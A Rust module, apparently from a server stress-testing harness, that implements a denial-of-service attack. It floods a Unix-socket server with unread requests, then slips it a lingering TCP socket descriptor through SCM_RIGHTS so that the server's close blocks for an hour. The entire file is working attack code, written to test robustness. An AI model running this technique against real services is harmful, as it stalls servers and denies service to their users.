//! The attack with descriptors: a client sends them beside the bytes of its requests, and their close waits.
//!
//! The last close of a TCP socket that lingers waits for its other end. The attacker closes its own
//! descriptor while a copy lies in the socket of the server, unread. The process that takes the copy from
//! there closes it last.

use super::{Attack, Target};
use nix::sys::socket::{ControlMessage, MsgFlags, SetSockOpt as _, sendmsg, sockopt};
use std::{
    io::{IoSlice, Read as _, Write as _},
    net::{TcpListener, TcpStream},
    os::{fd::AsRawFd as _, unix::net::UnixStream},
};

/// How long a close lingers, in seconds: longer than any test.
const LINGER: i32 = 3600;
/// So many requests are sent at once.
const REQUESTS: usize = 20;
/// After so many writes without room the server takes no more.
const FULL_AFTER: u32 = 3;

/// Where a connection is.
#[derive(Debug)]
enum Stage {
    /// It sends requests whose replies nobody reads. The number of writes that found no room.
    Fills(u32),
    /// The server takes no more: a descriptor stays in its socket.
    IsFull,
    /// The descriptor is sent. The client reads the replies, so that the server goes on.
    GoesOn,
}

/// The attack.
#[derive(Debug)]
pub struct Descriptors {
    most: usize,
    links: Vec<(UnixStream, Stage)>,
    next: usize,
    opened: u64,
    listener: TcpListener,
    /// The other ends, which read nothing.
    ends: Vec<TcpStream>,
}

impl Descriptors {
    /// Returns the attack with at most `most` connections at once.
    #[must_use]
    pub fn new(most: usize) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
        Descriptors { most, links: Vec::new(), next: 0, opened: 0, listener, ends: Vec::new() }
    }

    /// Returns a socket whose last close waits.
    fn lingering(&mut self) -> TcpStream {
        let mut socket =
            TcpStream::connect(self.listener.local_addr().expect("an address")).expect("connected");
        self.ends.push(self.listener.accept().expect("accepted").0);
        socket.set_nonblocking(true).expect("a socket");
        while socket.write(&[0; 64 << 10]).is_ok() {}
        socket.set_nonblocking(false).expect("a socket");
        set_linger(&socket, LINGER);
        socket
    }
}

fn set_linger(socket: &TcpStream, seconds: i32) {
    let linger = libc::linger { l_onoff: 1, l_linger: seconds };
    sockopt::Linger.set(socket, &linger).expect("a socket");
}

impl Attack for Descriptors {
    fn name(&self) -> &'static str {
        "descriptors"
    }

    fn opened(&self) -> u64 {
        self.opened
    }

    fn step(&mut self, target: &Target) {
        if self.links.len() < self.most
            && let Ok(stream) = UnixStream::connect(&target.socket)
            && stream.set_nonblocking(true).is_ok()
        {
            self.links.push((stream, Stage::Fills(0)));
            self.opened += 1;
        }
        if self.links.is_empty() {
            return;
        }
        self.next = (self.next + 1) % self.links.len();
        let mut socket = None;
        if matches!(self.links[self.next].1, Stage::IsFull) {
            socket = Some(self.lingering());
        }
        let (stream, stage) = &mut self.links[self.next];
        let mut bytes = [0; 16 << 10];
        let mut is_open = true;
        match (&stage, socket) {
            (Stage::Fills(full), _) => {
                let request = target.head("GET", "/v1/info") + "\r\n";
                *stage = match stream.write(request.repeat(REQUESTS).as_bytes()) {
                    Ok(_) => Stage::Fills(0),
                    Err(_) if *full < FULL_AFTER => Stage::Fills(full + 1),
                    Err(_) => Stage::IsFull,
                };
            }
            (Stage::IsFull, Some(socket)) => {
                let files = [socket.as_raw_fd()];
                let rights = [ControlMessage::ScmRights(&files)];
                let parts = [IoSlice::new(b"G")];
                match sendmsg::<()>(stream.as_raw_fd(), &parts, &rights, MsgFlags::MSG_NOSIGNAL, None) {
                    Ok(_) => *stage = Stage::GoesOn,
                    Err(error) => {
                        // This is the last one: it must not hold the attacker.
                        set_linger(&socket, 0);
                        if error == nix::errno::Errno::EAGAIN {
                            // Some bytes of room.
                            drop(stream.read(&mut bytes[..4096]));
                        } else {
                            *stage = Stage::GoesOn;
                        }
                    }
                }
            }
            (Stage::IsFull, None) => {}
            (Stage::GoesOn, _) => {
                is_open = match stream.read(&mut bytes) {
                    Ok(n) => n > 0,
                    Err(e) => e.kind() == std::io::ErrorKind::WouldBlock,
                };
            }
        }
        if !is_open {
            self.links.swap_remove(self.next);
        }
    }
}
